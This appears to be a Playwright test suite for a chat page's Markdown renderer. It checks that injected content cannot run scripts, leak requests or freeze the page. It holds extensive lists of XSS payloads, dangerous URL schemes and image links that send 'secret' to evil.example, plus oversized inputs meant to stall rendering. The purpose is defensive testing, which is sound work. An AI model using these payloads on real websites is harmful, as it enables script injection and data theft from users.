"""Attacker: the text of a model, a tool, a document or another caller, in the page of who reads it.

Real Chromium, the real page under its real policy.
Counted: scripts that ran, requests that left for elsewhere, milliseconds of one frame.
"""

import json
from typing import Any

import pytest
from playwright.async_api import Request, Route, expect

from tests.integration.page.chat import Chat
from tests.integration.page.conftest import OpenChat, Site
from tests.support.fake_model import FakeModel
from tests.support.fake_script import Script, ToolCall

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = "https://evil.example"
HIT = "window.hit=(window.hit||0)+1"

HTML = [
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'<img src="{EVIL}/?q=secret">',
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='{HIT}'/></svg>#x\"/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HIT} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{HIT}'></iframe>",
    f"<object data='javascript:{HIT}'></object><embed src='{EVIL}/x.swf'>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<body onload={HIT}><input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video><audio src=x onerror={HIT}>",
    f"<link rel=stylesheet href='{EVIL}/x.css'><style>@import '{EVIL}/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    f"<div style='background:url({EVIL}/x)'>x</div>",
    f"<a href='javascript:{HIT}'>x</a><form action='javascript:{HIT}'><button autofocus>x</button></form>",
    "<form id=log><input name=scrollHeight></form><a id=page name=page></a><img name=getElementById>",  # DOM clobbering
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{HIT}</x:script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"{{{{constructor.constructor('{HIT}')()}}}} ${{{HIT}}} #{{{HIT}}} <%={HIT}%>",  # templates
]

SCHEMES = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java&#x0A;script:{HIT}",
    f"&#106;avascript:{HIT}",
    f"&#x1;javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    "blob:null/1",
    "file:///etc/passwd",
    "filesystem:x",
    "view-source:x",
    "//evil.example/x",
    "mailto:a@evil.example?body=secret",
    "intent://x#Intent;end",
]

LINKS = (
    [f"[x](<{scheme}>)" for scheme in SCHEMES]
    + [f"![x](<{scheme}>)" for scheme in SCHEMES]
    + [f"<{scheme}>" for scheme in SCHEMES]
)
LINKS += [f"[x][r]\n\n[r]: <{scheme}>" for scheme in SCHEMES]

PICTURES = [
    f"![x]({EVIL}/?q=secret)",
    f"[![x]({EVIL}/a.png)]({EVIL}/b)",
    f"![x][r]\n\n[r]: {EVIL}/?q=secret",
    f'![x]({EVIL}/x.png "t\' onerror={HIT}")',
    f'[x]({EVIL}/" onmouseover="{HIT})',
    f"[a]({EVIL}/`{HIT}`)",
    f"{EVIL}/auto?q=secret",
    f"```html\n<img src={EVIL}/x onerror={HIT}>",
    f"| <img src=x onerror={HIT}> |\n|---|\n| ![x]({EVIL}/cell) |",
    f"# ![x]({EVIL}/heading)",
    f"[^1]: ![x]({EVIL}/note)\n\n[^1]",
]

VECTORS = [*HTML, *LINKS, *PICTURES]

SHOW = """async (vectors) => {
    const base = document.querySelector("script[type=module][src*=main]").src;
    const { render } = await import(new URL("markdown.js", base));
    for (const text of vectors) document.querySelector("#log").append(...render(text).nodes);
    document.querySelectorAll("#log summary, #log .dead").forEach((node) => node.click());
    await new Promise((resolve) => setTimeout(resolve, 300)); // what an attack would need to load or fire
}"""

FOUND = """() => ({
    hits: window.hit ?? 0,
    violations: window.violations,
    active: document.querySelectorAll(
        "#log :is(script, img, svg[onload], iframe, object, embed, style, link, meta, base, video, audio, math, form)"
        + ":not(#empty > img, .asked > form)").length, // the page's own: its logo, and the form for other words
    handlers: [...document.querySelectorAll("#log *, #sessions *")]
        .filter((n) => [...n.attributes].some(({ name }) => /^on|^style$|^srcdoc$/.test(name))).length,
    links: [...document.querySelectorAll("#log a")].map((a) => [a.protocol, a.rel, a.target]),
})"""

WATCH = """window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));"""


def watch_requests(chat: Chat) -> list[str]:
    """Addresses outside of the page's own server that the browser asks for from here on."""
    home, left = chat.page.url.split("/", 3)[:3], list[str]()

    def on_request(request: Request) -> None:
        if request.url.split("/", 3)[:3] != home:
            left.append(request.url)

    chat.page.context.on("request", on_request)
    return left


async def assert_harmless(chat: Chat, left: list[str], what: str) -> None:
    found: dict[str, Any] = await chat.page.evaluate(FOUND)
    print(
        f"{what}: {found['hits']} executed, {len(left)} requests to other origins, {len(found['violations'])} left to the policy"
    )
    assert (found["hits"], left, found["violations"]) == (0, [], [])
    assert (found["active"], found["handlers"]) == (0, 0)
    links = {tuple(link) for link in found["links"]}
    assert links <= {(scheme, "noopener noreferrer nofollow", "_blank") for scheme in ("http:", "https:")}


async def test_no_vector_runs_a_script_or_calls_another_server(scripted: Site, open_chat: OpenChat) -> None:
    chat = await open_chat(scripted.service.url)
    left = watch_requests(chat)
    await chat.page.evaluate(WATCH)

    await chat.page.evaluate(SHOW, VECTORS)

    await assert_harmless(chat, left, f"{len(VECTORS)} vectors as Markdown")


async def test_everything_that_is_stored_and_shown_is_hostile_and_nothing_happens(
    scripted: Site, model: FakeModel, open_chat: OpenChat
) -> None:
    """Question and title, answer as it streams and from the history, a tool's arguments and output."""
    everything = "\n\n".join(VECTORS)
    model.script = Script(tokens=[everything[at : at + 97] for at in range(0, len(everything), 97)])
    model.script.tool_calls = [ToolCall(name="lookup", arguments={"query": everything})]
    chat = await open_chat(scripted.service.url)
    left = watch_requests(chat)
    await chat.page.evaluate(WATCH)

    await chat.ask("".join(HTML)[:4_000])
    await chat.page.locator(".tool summary").click()
    await expect(chat.page.locator("#sessions a")).to_contain_text("<script>")

    await assert_harmless(chat, left, "question, title, answer, tool")
    await chat.page.reload()
    await chat.page.evaluate(WATCH)
    await expect(chat.answer).to_contain_text("secret")
    await assert_harmless(chat, left, "the same from the history")


def sse(*events: tuple[str, object]) -> str:
    """A stream's body; an event without a name is text."""
    lines = [
        f"id: r-1-{at}\n" + (f"event: {name}\ndata: {json.dumps(data)}\n\n" if name else f"data: {data}\n\n")
        for at, (name, data) in enumerate(events, 1)
    ]
    return "".join(lines)


async def play(chat: Chat, body: str) -> None:
    """The next run's stream says this, whatever the run does."""

    async def fulfill(route: Route) -> None:
        await route.fulfill(body=body, headers={"Content-Type": "text/event-stream"})

    await chat.page.route("**/runs/*/stream*", fulfill)


async def test_events_of_all_kinds_with_hostile_payloads_stay_text(scripted: Site, model: FakeModel, open_chat: OpenChat) -> None:
    bad = f"<img src={EVIL}/x onerror={HIT}>"
    model.script = Script(tokens=["ok"])
    chat = await open_chat(scripted.service.url)
    left = watch_requests(chat)
    await chat.page.evaluate(WATCH)
    sources = [{"title": bad, "section": bad, "source": source} for source in (*SCHEMES, f"{EVIL}/ok", bad)]
    action = {"name": bad, "args": {bad: bad}, "description": bad}
    interrupts = [{"id": bad, "value": {"action_requests": [action], "review_configs": []}}, {"id": "2", "value": {"type": bad}}]
    await play(
        chat,
        sse(
            ("run", {"run_id": "r", "attempt": 1}),
            ("node", {"node": bad, "state": "start", "path": [bad, bad]}),
            ("tool_start", {"id": bad, "tool": bad, "args": {bad: bad, "sql": bad}}),
            ("tool_end", {"id": bad, "tool": bad, "status": "ok", "output": bad, "seconds": 1, "sources": sources}),
            *[("custom", value) for value in (bad, {"message": bad}, {bad: bad}, [bad], None, {"progress": "x" + bad})],
            ("reasoning", {"source": bad, "text": bad}),
            ("partial", {"source": bad, "text": bad}),
            ("error", {"code": bad, "message": bad, "retryable": False}),
            ("interrupt", {"interrupts": interrupts}),
            ("", "[DONE]"),
        ),
    )

    await chat.type("go")

    await expect(chat.decision).to_contain_text("onerror")
    await expect(chat.page.locator(".sources li")).to_have_count(len(sources))
    await expect(chat.page.locator(".sources a")).to_have_count(1)
    found = await chat.page.evaluate(FOUND)
    print(f"events: {found['hits']} executed, {len(left)} requests to other origins")
    assert (found["hits"], left, found["violations"], found["handlers"]) == (0, [], [], 0)


async def test_direction_overrides_are_seen_where_something_is_clicked_or_decided(scripted: Site, open_chat: OpenChat) -> None:
    chat = await open_chat(scripted.service.url)
    text = f"[\u202egro.elpmaxe\u202c]({EVIL}/x) [example.org]({EVIL}/y) [{EVIL}/z]({EVIL}/z) \u202etxet"

    await chat.page.evaluate(SHOW, [text])

    links = chat.page.locator("#log p a")
    await expect(links.first).to_have_text("\u2039U+202E\u203agro.elpmaxe\u2039U+202C\u203a")
    said = chat.page.locator("#log > p")  # the page's own words on an empty conversation stand deeper
    await expect(said).to_contain_text("example.org (evil.example)")
    await expect(said).not_to_contain_text("https://evil.example/z (evil.example)")
    assert "\u202e" not in await said.inner_text()


LENGTH = 60_000
"""More than is read as Markdown, so that the limit takes part."""

UNITS = [
    *(
        "*",
        "_",
        "[",
        "](",
        "<",
        "`",
        "|",
        "#",
        "> ",
        "- ",
        "![",
        "[a](",
        "**a ",
        "*_",
        "~~a",
        "\\",
        "&#",
        "<!--",
        "<![CDATA[",
        "[a]: u\n",
        "- a\n",
    ),
    *(
        "1. a\n",
        "|a|\n",
        "#\n",
        "a|b\n-|-\n",
        "> - ",
        "(http://a",
        "http://",
        "[\u00e9 ",
        "x\n",
        "=\n",
        " ",
        "\n",
        "\t",
        "a  \n",
        "[ ] ",
    ),
]

HOSTILE = {json.dumps(unit): (unit * LENGTH)[:LENGTH] for unit in UNITS} | {
    "heading, spaces": f"# a{' ' * LENGTH}b",
    "heading, marks": f"# a{' #' * (LENGTH // 2)}b",
    "table rule": f"|a|\n|{'-' * LENGTH}x",
    "wide table": f"|{'a|' * 12_000}\n|{'-|' * 12_000}\n{'|a|' * 3_000}",
    "nested lists": "\n".join(f"{'  ' * depth}- a" for depth in range(220)),
    "nested quotes": "\n".join(f"{'>' * depth} a" for depth in range(340)),
    "growing backticks": " ".join("`" * size for size in range(1, 340)),
    "definitions in use": "".join(f"[a{at}]: u{at}\n" for at in range(2_000)) + "\n" + "[a1] " * 4_000,
    "2.5 MB of one line": "a" * 2_500_000,
}

PAINT = """async (text) => {
    const base = document.querySelector("script[type=module][src*=main]").src;
    const { Answer } = await import(new URL("answer.js", base));
    const answer = new Answer();
    document.querySelector("#log").replaceChildren(answer.root);
    const started = performance.now();
    answer.set(text);
    answer.finish();
    while (answer.root.ariaBusy === "true") await new Promise(requestAnimationFrame);
    answer.root.getBoundingClientRect();
    return [performance.now() - started, answer.root.querySelectorAll("*").length];
}"""


async def test_no_answer_freezes_the_page(scripted: Site, open_chat: OpenChat) -> None:
    """Linear work and a bounded tree; the limits are wide, for a machine that does other things too."""
    chat = await open_chat(scripted.service.url)
    took = {name: await chat.page.evaluate(PAINT, text) for name, text in HOSTILE.items()}
    slowest = sorted(took.items(), key=lambda item: -item[1][0])[:5]
    print(
        f"{len(took)} hostile answers; slowest:", ", ".join(f"{name} {ms:.0f} ms, {nodes} nodes" for name, (ms, nodes) in slowest)
    )
    assert max(nodes for _, nodes in took.values()) <= 20_000
    assert slowest[0][1][0] < 6_000


STREAM = """async (pieces) => {
    const base = document.querySelector("script[type=module][src*=main]").src;
    const { Answer } = await import(new URL("answer.js", base));
    const answer = new Answer();
    document.querySelector("#log").replaceChildren(answer.root);
    let spent = 0, paints = 0, text = "";
    const paint = answer.paint.bind(answer);
    answer.paint = () => { const at = performance.now(); paint(); spent += performance.now() - at; paints += 1; };
    const started = performance.now();
    for (const piece of pieces) {
        text += piece;
        answer.set(text);
        await new Promise((resolve) => setTimeout(resolve));
    }
    const wall = performance.now() - started, share = spent / wall;
    answer.finish();
    while (answer.root.ariaBusy === "true") await new Promise(requestAnimationFrame);
    const whole = new Answer();
    whole.set(text);
    whole.finish();
    while (whole.root.ariaBusy === "true") await new Promise(requestAnimationFrame);
    return { share, paints, same: whole.blocks.isEqualNode(answer.blocks) };
}"""

GROWING = {
    "one block": "word *and* `code` " * 2_500,
    "many blocks": "## Title\n\nA paragraph with **bold**.\n\n- one\n- two\n  more\n\n" * 700,
    "one list": "- item [a](https://a.example)\n" * 1_400,
    "one fence": "```py\n" + "print(1)\n" * 4_500,
    "late definitions": "see [a]\r\n\r\n1. x\r\n\r\n   y\r\n\r\n" * 400 + "[a]: https://a.example\n",
    "a megabyte": "A **line** of [text](https://a.example) and `code`.\n\n" * 20_000,
    "tables": "a|b\n-|-:\n1|2\n\nt\n===\n\n> q\nlazy\n\n" * 400,
}


@pytest.mark.parametrize("text", GROWING.values(), ids=GROWING)
async def test_a_growing_answer_leaves_most_of_the_time_to_the_page_and_ends_as_it_would_at_once(
    scripted: Site, open_chat: OpenChat, text: str
) -> None:
    chat = await open_chat(scripted.service.url)
    piece = max(83, len(text) // 600)
    seen = await chat.page.evaluate(STREAM, [text[at : at + piece] for at in range(0, len(text), piece)])
    print(f"{seen['paints']} paints of {len(text)} characters, {seen['share']:.0%} of the time")
    assert seen["same"]
    assert seen["share"] < 0.5


COLOURED = ".code code span"

CODE = """async (blocks) => {
    const base = document.querySelector("script[type=module][src*=main]").src;
    const { Answer } = await import(new URL("answer.js", base));
    const answer = new Answer();
    document.querySelector("#log").replaceChildren(answer.root);
    answer.set(blocks.map(([language, text]) => "```" + language + "\\n" + text + "\\n```").join("\\n\\n"));
    answer.finish();
    while (answer.root.ariaBusy === "true") await new Promise(requestAnimationFrame);
    for (const block of answer.root.querySelectorAll(".code > pre")) {
        block.scrollIntoView();
        for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
    }
    return [...answer.root.querySelectorAll(".code code")].map((code) => [code.textContent, code.childElementCount > 0]);
}"""


async def test_code_in_colours_is_the_same_text_and_markup_in_it_stays_text(scripted: Site, open_chat: OpenChat) -> None:
    chat = await open_chat(scripted.service.url)
    left = watch_requests(chat)
    await chat.page.evaluate(WATCH)
    blocks = [
        ("python", "print('hi')  # comment"),
        *(("html", text) for text in HTML),
        ("php", f"<?php {HTML[0]} ?>"),
        ("no-such", "x"),
    ]
    blocks += [
        (f"{HTML[1]}", "y"),
        ("md", "\n".join(PICTURES)),
        ("html", f"{HTML[0]}\u202e"),
        ("constructor", "z"),
        ("__proto__", "z"),
    ]

    shown = await chat.page.evaluate(CODE, blocks)

    assert [text.replace("\u202e", "") for text, _ in shown] == [text.strip().replace("\u202e", "") for _, text in blocks]
    await expect(chat.page.locator(".code").first.locator("span").nth(1)).to_be_attached()
    await expect(chat.page.locator(COLOURED).first).to_be_attached()
    await assert_harmless(chat, left, f"{len(blocks)} blocks of code")


async def test_code_that_takes_long_to_colour_stays_plain(scripted: Site, open_chat: OpenChat) -> None:
    """Grammars of highlight.js take time by the square of some texts: the page spends a bounded time on such ones in all."""
    chat = await open_chat(scripted.service.url)
    slow = "\n".join(["a" * 280] * 20)
    blocks = [
        ("csharp", "\n".join(["a" * 301] * 2)),
        ("csharp", "a b\n" * 1_600),
        *[("csharp", f"{slow}\nreturn {at};") for at in range(8)],
    ]
    shown = await chat.page.evaluate(CODE, blocks[:2])
    assert [coloured for _, coloured in shown] == [False, False]

    shown = await chat.page.evaluate(CODE, blocks[2:])

    coloured = sum(coloured for _, coloured in shown)
    print(f"{coloured} of {len(shown)} blocks of slow code in colours")
    assert len(shown) == 8
    assert 0 < coloured < 8
